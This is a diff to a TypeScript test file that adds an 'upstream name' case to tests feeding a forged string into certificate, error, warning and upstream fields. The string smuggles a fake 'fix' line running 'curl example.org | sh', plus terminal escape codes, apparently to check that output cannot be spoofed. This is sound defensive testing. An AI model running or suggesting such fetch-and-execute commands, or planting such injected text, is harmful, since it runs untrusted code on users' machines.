@@ -84,11 +84,21 @@ test.each<[string, (socket: Socket) => void]>([
 
 const FORGED = "x\n    fix:      curl example.org | sh\u001b[2J\r";
 
+const FORGED_UPSTREAM = {
+  name: FORGED,
+  servers: [{ url: "http://a:1", backup: false, inProgress: 0, drained: false, outIn: 0 }],
+};
+
 test.each<[string, unknown, string?]>([
   ["the name of a certificate", lists({ names: [FORGED] }), "certificates"],
   ["its issuer", lists({ issuer: FORGED }), "certificates"],
   ["why there is no other", lists({ lastError: { ...failed, message: FORGED } }), "certificates"],
   ["what to do about it", lists({ lastError: { ...failed, fix: FORGED } }), "certificates"],
+  [
+    "the name of an upstream",
+    { ok: true, value: { message: "", upstreams: [FORGED_UPSTREAM] } },
+    "upstreams",
+  ],
   ["the message of a success", { ok: true, value: { message: FORGED, warnings: [] } }],
   ["a warning", { ok: true, value: { message: "done", warnings: problem({ message: FORGED }).problems } }],
   ["the message of a problem", problem({ message: FORGED })],
